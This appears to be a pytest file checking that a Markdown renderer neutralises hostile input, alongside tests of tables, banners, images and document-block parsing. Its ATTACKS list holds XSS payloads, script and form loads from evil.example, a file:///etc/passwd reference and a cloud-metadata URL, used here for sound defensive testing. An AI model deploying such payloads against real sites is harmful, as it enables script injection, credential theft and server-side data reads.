"""Markdown: what authors write shows, what attackers write lies still."""

import re
from html.parser import HTMLParser

import pytest

from lib.markdown import ImageRef, Shown, images_in, render
from lib.markdown_blocks import Chat, Check, Example, Fault, Html, Line, document

TAGS = {
    *(
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "div",
        "em",
        "figcaption",
        "figure",
        "h3",
        "h4",
        "h5",
        "hr",
        "i",
        "img",
        "kbd",
        "li",
        "ol",
        "p",
    ),
    *("pre", "strong", "sub", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}
ATTRIBUTES = {
    "href",
    "title",
    "src",
    "alt",
    "width",
    "height",
    "loading",
    "class",
    "role",
    "tabindex",
    "aria-label",
    "aria-hidden",
    "start",
    "scope",
    "rel",
}


class Nodes(HTMLParser):
    """Collects what a browser would make of it."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def nodes(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Nodes()
    parser.feed(html)
    return parser.found


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='data:text/html,x'></object><embed src=x>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<style>*{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//evil.example/x)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](file:///etc/passwd)",
    "![x](http://169.254.169.254/latest)",
    '![x" onerror="alert(1)](y)',
    '[x](/a "t\\" onmouseover=\\"alert(1)")',
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<div class='r-banner is-danger' id=main onclick=alert(1)>x</div>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '!!! note "<img src=x onerror=alert(1)>"\n    <script>alert(1)</script>',
    '!!! danger"onclick=alert(1) "x"\n    y',
    "# <a href=javascript:alert(1)>x</a>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_malicious_markdown_renders_inert(attack: str) -> None:
    for tag, attributes in nodes(render(attack, "zh")):
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        assert "src" not in attributes
        assert re.match(r"(https?://|mailto:|/(?![/\\])|#|[^/:\\]+$|$)", attributes.get("href") or "")


def test_the_measure_of_inertness_can_fail() -> None:
    assert nodes("<img src=x onerror=alert(1)>") == [("img", {"src": "x", "onerror": "alert(1)"})]


def test_raw_html_shows_as_the_text_it_is() -> None:
    assert render("<b>x</b>") == "<p>&lt;b&gt;x&lt;/b&gt;</p>"


def test_a_table_scrolls_by_itself_and_keeps_its_alignment() -> None:
    html = render("| a | b |\n|---|--:|\n| 1 | 2 |", "en")
    assert nodes(html)[:2] == [
        ("div", {"class": "r-table-wrap", "role": "region", "tabindex": "0", "aria-label": "Table, scrolls sideways"}),
        ("table", {"class": "r-table is-prose"}),
    ]
    assert '<th scope="col">a</th>' in html
    assert '<td class="text-end">2</td>' in html


@pytest.mark.parametrize(
    ("kind", "css"), [("note", "r-banner"), ("warning", "r-banner is-warn"), ("danger", "r-banner is-danger"), ("other", "r-banner")]
)
def test_an_admonition_is_a_banner(kind: str, css: str) -> None:
    found = nodes(render(f'!!! {kind} "标题"\n    正文', "zh"))
    assert found[0] == ("div", {"class": css})
    assert ("div", {"class": "r-strong"}) in found


def test_an_image_shows_only_when_its_name_is_known() -> None:
    known = {"box.png": Shown("/media/box.png", 20, 10)}.get
    image = '<img alt="盒子" height="10" loading="lazy" src="/media/box.png" width="20">'
    assert render("![盒子](box.png)", "zh", known) == f'<figure class="r-figure">{image}</figure>'
    assert render("看 ![盒子](box.png)", "zh", known) == f"<p>看 {image}</p>"
    caption = "<figcaption>一只 &lt;b&gt;盒子</figcaption>"
    assert render('![盒子](box.png "一只 <b>盒子")', "zh", known) == f'<figure class="r-figure">{image}{caption}</figure>'
    assert render("![盒子](else.png)", "zh", known) == "<p>盒子</p>"


def test_the_images_of_a_text_are_found_as_it_is_read() -> None:
    text = 'one\n\n![a](x.png)\n\n```\n![no](code.png)\n```\n\n!!! note "t"\n    ![](y.png)\n\n`![no](z.png)`\n\n![b][ref] and ![c](x.png)\n\n[ref]: r.png\n'
    assert images_in(text) == (ImageRef("x.png", "a", 3), ImageRef("y.png", "", 10), ImageRef("r.png", "b", 14), ImageRef("x.png", "c", 14))


def test_headings_stay_below_the_parts() -> None:
    assert render("# one\n\ntwo\n---\n\n### three") == "<h3>one</h3>\n<h3>two</h3>\n<h3>three</h3>"


def test_tokens_pass_untouched() -> None:
    assert render("七天 {rule:POL-7D.days}、{claim:11}、{n:1899}", "zh") == "<p>七天 {rule:POL-7D.days}、{claim:11}、{n:1899}</p>"


DOCUMENT = """前言

## 第一部分

正文

```
## 不是标题
:::chat good
```

:::chat bad "断在半路"
顾客: 在吗？
客服： 您好，
请稍等
旁白: 没有时间
:::

:::check C01-4-k1

## 第二部分
:::example
**卡**
:::
"""


def test_a_document_splits_into_parts_and_blocks() -> None:
    read = document(DOCUMENT)
    assert read.faults == ()
    assert [(part.title, part.line) for part in read.parts] == [("", 1), ("第一部分", 3), ("第二部分", 21)]
    assert read.parts[0].blocks == (Html("前言", 1),)
    assert read.parts[1].blocks == (
        Html("正文\n\n```\n## 不是标题\n:::chat good\n```", 5),
        Chat(
            "bad",
            "断在半路",
            (Line("customer", "顾客", "在吗？"), Line("agent", "客服", "您好，\n请稍等"), Line("note", "旁白", "没有时间")),
            12,
        ),
        Check("C01-4-k1", 19),
    )
    assert read.parts[2].blocks == (Example("**卡**", 22),)


@pytest.mark.parametrize(
    ("source", "fault"),
    [
        ("## a\n:::chat good\n顾客: x", Fault(2, ":::chat is not closed by a line with ::: alone")),
        ("## a\n:::chat great\n顾客: x\n:::", Fault(2, ":::chat must name its kind: good, bad, plain")),
        ("## a\n:::chat good\n:::", Fault(2, ":::chat has no line")),
        ("## a\n:::chat good\n店长: x\n:::", Fault(3, "a chat line begins with who speaks: 顾客, 客服, 旁白, customer, agent, note")),
        ("## a\n:::check", Fault(2, ":::check needs the id of one question")),
        ("## a\n:::check k1 k2", Fault(2, ":::check needs the id of one question")),
        ("## a\n:::video x", Fault(2, ":::video is not a block that we know (:::chat, :::example, :::check)")),
        ("## a\n:::", Fault(2, "::: with nothing open is not a block that we know (:::chat, :::example, :::check)")),
        ("## a\n:::example\nx\n## b", Fault(2, ":::example is not closed by a line with ::: alone")),
    ],
)
def test_what_does_not_fit_is_a_fault_with_its_line(source: str, fault: Fault) -> None:
    assert fault in document(source).faults
